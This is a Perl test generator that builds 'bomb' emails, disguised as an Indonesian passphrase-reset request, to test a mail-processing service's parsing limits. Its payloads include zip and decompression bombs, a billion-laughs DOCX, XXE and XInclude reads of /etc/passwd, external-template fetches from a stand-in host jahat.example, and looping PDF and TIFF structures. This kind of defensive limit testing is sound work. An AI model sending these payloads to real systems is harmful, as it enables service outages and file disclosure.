#!/usr/bin/perl
# SPDX-License-Identifier: GPL-3.0-or-later
# Letters that hold FACTOR times as much of something as loket bears (src/protocol.h, src/box/scan.h, zip.h, office.c, html.c, pdf.c, picture.c).
# Each is a request of siti that could be read but for that. Nothing of this is kept: bombs are made when they are needed.
#   bombs.pl list           each name, the largest factor that it can be made with, and what is counted
#   bombs.pl NAME FACTOR    the letter on stdout
use strict;
use warnings;
use Compress::Raw::Zlib;
use MIME::Base64 qw(encode_base64);
binmode STDOUT;

my ($name, $x) = @ARGV;
my $text = "Saya lupa passphrase TTE saya, mohon direset.\n\nNIP: 198703122011012004\n";
my $head = "From: Siti Rahmah <siti\@tapinkab.go.id>\nTo: tte\@tapinkab.go.id\nDate: Mon, 23 Nov 2026 08:40:00 +0800\nMIME-Version: 1.0\n";
my $subject = "Subject: Lupa passphrase TTE\n";
my $plain = "Content-Type: text/plain; charset=utf-8\n\n";
my $mixed = "Content-Type: multipart/mixed; boundary=b\n\n--b\n$plain$text";
my $from = sub { print $head, 'Message-ID: <', $name, '.', $x, "\@tapinkab.go.id>\n" };
# again(N, WHAT): in pieces, so that a gigabyte needs no memory.
sub again { my ($n, $what) = @_; my $k = int(65536 / length $what) + 1; my $piece = $what x $k;
	while ($n >= $k) { print $piece; $n -= $k } print $what x $n; }
sub attach { my ($file, $type, $bytes) = @_;
	$from->(); print $subject, $mixed, "--b\nContent-Type: $type; name=\"$file\"\nContent-Disposition: attachment; filename=\"$file\"\n",
		"Content-Transfer-Encoding: base64\n\n", encode_base64($bytes), "--b--\n"; }

# N times the megabyte WHAT as one deflate stream, made of one piece that was compressed once.
sub squeezed { my ($n, $what, $wrap) = @_;
	my ($d) = Compress::Raw::Zlib::Deflate->new(-WindowBits => -15, -Level => 9, -AppendOutput => 1);
	my $piece = ''; $d->deflate($what, $piece); $d->flush($piece, Z_FULL_FLUSH);
	my $end = ''; $d->flush($end, Z_FINISH);
	return ($wrap ? "\x78\x9c" : '') . $piece x $n . $end; }
my $crc_of = {};
# The CRC of N times the same bytes, by appending zeros' effect: computed straight for what is small, 0 (nobody gets that far) otherwise.
sub crc { my ($n, $what) = @_; return 0 if $n * length $what > 1 << 28; my $c = 0; $c = crc32($what, $c) for 1 .. $n; return $c }
# zip([NAME, COMPRESSED, CRC, SIZE], ...)
sub zip { my ($body, $dir, $n) = ('', '', 0);
	for (@_) { my ($file, $data, $crc, $size) = @$_; my $at = length $body;
		$size = 0xffffffff if $size > 0xffffffff;
		my $common = pack('vvvvvVVVvv', 20, 0x800, 8, 0, 0x5d21, $crc, length $data, $size, length $file, 0);
		$body .= "PK\3\4" . $common . $file . $data;
		$dir .= "PK\1\2" . pack('v', 20) . $common . pack('vvvVV', 0, 0, 0, 0, $at) . $file; $n++ }
	return $body . $dir . "PK\5\6" . pack('vvvvVVv', 0, 0, $n & 0xffff, $n & 0xffff, length $dir, length $body, 0); }
sub member { my ($file, $what) = @_; return [$file, squeezed(1, $what), crc32($what), length $what] }
sub docx { my ($xml, @more) = @_;
	return zip(member('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
		member('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
		ref $xml ? $xml : member('word/document.xml', $xml), @more); }
my $w = '<?xml version="1.0"?>%s<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:xi="http://www.w3.org/2001/XInclude"><w:body>%s</w:body></w:document>';
my $docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
sub word { my ($dtd, $body, @more) = @_; attach('surat.docx', $docx, docx(sprintf($w, $dtd, $body), @more)) }
sub para { "<w:p><w:r><w:t>$_[0]</w:t></w:r></w:p>" }
sub pdf { my (@objects) = @_; my $n = 0;
	return "%PDF-1.4\n" . join('', map { ++$n . " 0 obj$_\nendobj\n" } @objects) . "trailer<</Root 1 0 R>>\n%%EOF\n" }
sub paper { attach('surat.pdf', 'application/pdf', pdf(@_)) }
my $font = '<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>';
sub png { my ($wide, $high) = @_; my $row = "\0" . "\xff" x $wide; my $rows = int(1048576 / length $row) || 1;
	my $chunk = sub { my ($t, $d) = @_; pack('N', length $d) . $t . $d . pack('N', crc32($t . $d)) };
	my $whole = $wide * $high <= 70e6 ? squeezed(int($high / $rows) + 1, $row x $rows, 1) : squeezed(1, $row, 1);
	return "\x89PNG\r\n\x1a\n" . $chunk->('IHDR', pack('NNCCCCC', $wide, $high, 8, 0, 0, 0, 0)) . $chunk->('IDAT', $whole) . $chunk->('IEND', ''); }
# A TIFF of N pages of 600 x 400 white points, all of them the same strip.
sub tiff { my ($n) = @_; my $strip = "\xff" x 30000; my ($file, $at) = ("II*\0" . pack('V', 8 + length $strip) . $strip, 8 + length $strip);
	for my $i (1 .. $n) { my @tags = ([256, 600], [257, 400], [258, 1], [259, 1], [262, 1], [273, 8], [277, 1], [278, 400], [279, 30000]);
		$at += 2 + 12 * @tags + 4;
		$file .= pack('v', scalar @tags) . join('', map { pack('vvVV', $_->[0], 4, 1, $_->[1]) } @tags) . pack('V', $i < $n ? $at : 0) }
	return $file; }

my %bombs = (
	# the pre-scan's
	'message' => ['25 MB of letter', sub { $from->(); print $subject, $plain, $text; again(int((25 * 1048576 * $x - 1500) / 78), 'a' x 76 . "\n") }, 10],
	'header' => ['256 KB of header', sub { $from->(); print 'References:'; again(int((262144 * $x - 1000) / 20), " <12345\@contoh.id>\n"); print $subject, $plain, $text }, 10],
	'fields' => ['1,000 fields of a header', sub { $from->(); again(1000 * $x - 7, "X-A: b\n"); print $subject, $plain, $text }],
	'brackets' => ['100 brackets in each other', sub { $from->(); print 'Cc: '; again(99 * $x, "(\n "); again(99 * $x, ")\n "); print "a\@b.id\n", $subject, $plain, $text }],
	'groups' => ['100 groups of addresses in each other', sub { $from->(); print 'Cc: '; again(99 * $x, "a:\n "); print "\n", $subject, $plain, $text }],
	'depth' => ['32 parts in each other', sub { $from->(); print $subject; printf "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n", $_, $_ for 1 .. 31 * $x; print $plain, $text;
		print "--b$_--\n" for reverse 1 .. 31 * $x }],
	'attached' => ['32 letters in each other', sub { $from->(); print $subject; again(30 * $x, "Content-Type: message/rfc822\n\nSubject: a\n"); print $plain, $text }],
	'parts' => ['1,000 parts', sub { $from->(); print $subject, $mixed; again(999 * $x - 1, "--b\n\na\n"); print "--b--\n" }],
	'documents' => ['200 documents', sub { $from->(); print $subject, $mixed; again(200 * $x, "--b\nContent-Type: application/pdf; name=a.pdf\n\n%PDF-\n"); print "--b--\n" }],
	'line' => ['1 MB of one line', sub { $from->(); print $subject, $plain, $text; again(1048570 * $x, 'a'); print "\n" }, 10],
	'text' => ['1 MB of text', sub { $from->(); print $subject, $plain, $text; again(16384 * $x, "Mohon dibantu secepatnya, karena surat-surat sudah menunggu ttd.\n") }, 10],
	'recipients' => ['200 recipients', sub { $from->(); print 'Cc: '; again(200 * $x, "a\@b.id,\n "); print "c\@b.id\n", $subject, $plain, $text }],
	'subject' => ['4 KB of subject', sub { $from->(); print 'Subject: Lupa passphrase'; again(60 * $x, "\n =?utf-8?q?" . '=C3=A9' x 10 . '?='); print "\n", $plain, $text }],
	'encoded' => ['64 KB of text that is encoded four times over', sub { my $t = $text . 'halo ' x (1024 * $x); $t = encode_base64($t) for 1 .. 4; $from->(); print $subject, "Content-Transfer-Encoding: base64\n$plain", $t }, 100],
	# what patterns try at
	'pattern-a' => ['64 KB of one letter', sub { $from->(); print $subject, $plain, $text; again(64 * $x, 'a' x 1023 . "\n") }],
	'pattern-colons' => ['64 KB of labels', sub { $from->(); print $subject, $plain, $text; again(6553 * $x, "Nama : : \n") }],
	'pattern-quotes' => ['64 KB of marks of quotation', sub { $from->(); print $subject, $plain, $text; again(1200 * $x, "Pada tanggal Sen, 16 Nov 2026 pukul 09.12 Loket TTE menulis\n") }],
	'pattern-words' => ['64 KB of answers', sub { $from->(); print "Subject: Re: [TTE-2026-000001] Tugas\n$plain"; again(4369 * $x, "tidak SETUJU ya\n") }],
	'pattern-digits' => ['64 KB of digits', sub { $from->(); print $subject, $plain, $text; again(64 * $x, '1 9.8-7' x 146 . "\n") }],
	'html-nodes' => ['64,000 nodes of HTML', sub { $from->(); print $subject, "Content-Type: text/html\n\n<p>$text"; again(65536 * $x, "<b>a</b>\n") }, 10],
	'html-depth' => ['256 tags in each other', sub { $from->(); print $subject, "Content-Type: text/html\n\n<p>$text"; again(250 * $x, "<div>\n"); again(250 * $x, "</div>\n") }],
	'html-attributes' => ['256 attributes', sub { $from->(); print $subject, "Content-Type: text/html\n\n<p>$text<i "; print "a$_=b\n" for 1 .. 250 * $x; print ">x</i>\n" }],
	# archives and what is one
	'zip-members' => ['4,000 members', sub { attach('berkas.zip', 'application/zip', zip(map { [sprintf('%x', $_), "\3\0", 0, 0] } 1 .. 4000 * $x)) }, 10],
	'zip-size' => ['32 MB of one member', sub { my $m = "\0" x 1048576; attach('berkas.zip', 'application/zip', zip(['surat.txt', squeezed(31 * $x, $m), crc(31 * $x, $m), 31 * $x * 1048576])) }],
	'zip-lies' => ['32 MB more than the directory says', sub { my $m = "\0" x 1048576; attach('berkas.zip', 'application/zip', zip(['surat.txt', squeezed(31 * $x, $m), 0, 1000])) }],
	'zip-zip' => ['archives in each other, 4', sub { my $z = zip(member('surat.txt', $text)); $z = zip(member('a.zip', $z)) for 1 .. 4 * $x; attach('berkas.zip', 'application/zip', $z) }, 100],
	'zip-overlap' => ['members with the same bytes, 100', sub { my $z = zip(member('a', 'x' x 1e6)); my ($one, $dir) = $z =~ /^(.*?)(PK\x01\x02.*?a)PK\x05\x06/s;
		my $all = join '', map { (my $d = $dir) =~ s/a\z//; substr($d, 28, 2) = pack 'v', length sprintf '%x', $_; $d . sprintf '%x', $_ } 1 .. 100 * $x;
		attach('berkas.zip', 'application/zip', $one . $all . "PK\5\6" . pack('vvvvVVv', 0, 0, 100 * $x & 0xffff, 100 * $x & 0xffff, length $all, length $one, 0)) }, 600],
	'docx-size' => ['32 MB of a document', sub { my $m = 'surat ' x 174762 . '    '; my $start = sprintf($w, '', ''); attach('surat.docx', $docx, docx(['word/document.xml', squeezed(31 * $x, $m), crc(31 * $x, $m), 31 * $x * 1048576])) }],
	'docx-text' => ['1 MB of paragraphs', sub { word('', para('Mohon dibantu secepatnya.') x (20000 * $x)) }, 100],
	'docx-depth' => ['256 elements in each other', sub { word('', '<w:p>' x (250 * $x) . para('a') . '</w:p>' x (250 * $x)) }],
	'docx-attributes' => ['256 attributes', sub { word('', '<w:p ' . join(' ', map { "w:a$_=\"b\"" } 1 .. 250 * $x) . '/>' . para('a')) }],
	'docx-laughs' => ['entities, 3 levels of 10', sub { my $n = $x == 1 ? 3 : $x == 10 ? 10 : 30; word('<!DOCTYPE l [<!ENTITY a0 "ha">' . join('', map { "<!ENTITY a$_ \"" . ('&a' . ($_ - 1) . ';') x 10 . '">' } 1 .. $n) . ']>', para("&a$n;")) }],
	'docx-entity' => ['files by entity, 1', sub { word('<!DOCTYPE l [' . join('', map { "<!ENTITY e$_ SYSTEM \"file:///etc/passwd\">" } 1 .. $x) . ']>', join '', map { para("&e$_;") } 1 .. $x) }],
	'docx-include' => ['files by XInclude, 1', sub { word('', '<xi:include href="file:///etc/passwd" parse="text"/>' x $x . para('a')) }],
	'docx-template' => ['templates from elsewhere, 1', sub { word('', para('a'), member('word/_rels/settings.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' .
		join('', map { "<Relationship Id=\"r$_\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://jahat.example/$_.dotm\" TargetMode=\"External\"/>" } 1 .. $x) . '</Relationships>')) }],
	'rtf-depth' => ['256 groups in each other', sub { attach('surat.rtf', 'application/rtf', '{\rtf1 ' . '{a ' x (250 * $x) . '}' x (250 * $x) . '}') }],
	'rtf-binary' => ['binary that is not there, 1 MB', sub { attach('surat.rtf', 'application/rtf', '{\rtf1 surat \bin' . 1048576 * $x . ' a}') }],
	# PDF
	'pdf-stream' => ['8 MB of a stream', sub { my $s = squeezed(8 * $x, ' ' x 1048576, 1); paper('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>',
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources$font>>", '<</Filter/FlateDecode/Length ' . length($s) . ">>stream\n$s\nendstream") }],
	'pdf-pages' => ['20 pages', sub { my $n = 20 * $x; paper('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[' . join(' ', map { ($_ + 3) . ' 0 R' } 1 .. $n) . "]/Count $n>>", "<</Length 44>>stream\nBT /F 12 Tf 60 700 Td (mohon dibantu ya) Tj ET\nendstream",
		map { "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources$font>>" } 1 .. $n) }, 1000],
	'pdf-loop' => ['pages that hold themselves, 10', sub { paper('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[' . '2 0 R ' x (10 * $x) . "]/Count @{[1000000 * $x]}>>") }],
	'pdf-form' => ['forms that draw themselves twice, 10 deep', sub { my $n = 10 * $x; paper('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>',
		'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>', "<</Length 6>>stream\n/X Do\nendstream",
		map { "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X @{[$_ + 5]} 0 R>>>>/Length 12>>stream\n/X Do /X Do\nendstream" } 1 .. $n) }],
	'pdf-nested' => ['arrays in each other, 100', sub { paper('<</Type/Catalog/Pages 2 0 R/X ' . '[' x (100 * $x) . ']' x (100 * $x) . '>>', '<</Type/Pages/Kids[]/Count 0>>') }],
	'pdf-page' => ['a page of 10,000 points', sub { my $n = 10000 * $x; paper('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', "<</Type/Page/Parent 2 0 R/MediaBox[0 0 $n $n]/Contents 4 0 R/Resources$font>>",
		"<</Length 44>>stream\nBT /F 12 Tf 60 700 Td (mohon dibantu ya) Tj ET\nendstream") }],
	'pdf-signature' => ['1 MB of a signature', sub { my $n = 1048000 * $x; paper('<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[3 0 R]>>>>', '<</Type/Pages/Kids[]/Count 0>>', '<</FT/Sig/T(a)/V 4 0 R>>',
		'<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 300 ' . (300 + 2 * $n) . ' 100]/Contents<' . '30' x $n . '>>>') }, 10],
	# pictures
	'picture-points' => ['60 million points', sub { my $side = int(sqrt(60e6 * $x)) - 1; attach('IMG-1.png', 'image/png', png($side, $side)) }],
	'picture-pages' => ['5 pages of a picture', sub { attach('scan.tif', 'image/tiff', tiff(5 * $x)) }],
	'picture-loop' => ['a picture whose pages never end', sub { my $t = tiff(3); substr($t, -4) = pack 'V', 30008; attach('scan.tif', 'image/tiff', $t) }, 1],
);
# Where a thousand times as much would be a letter of hundreds of megabytes, `message` is what stands for it.
if ($name eq 'list') { printf "%s\t%d\t%s\n", $_, $bombs{$_}[2] // 1000, $bombs{$_}[0] for sort keys %bombs; exit }
die "bombs.pl list | NAME FACTOR\n" unless $bombs{$name} && $x;
$bombs{$name}[1]->();
close STDOUT or die "stdout: $!\n";
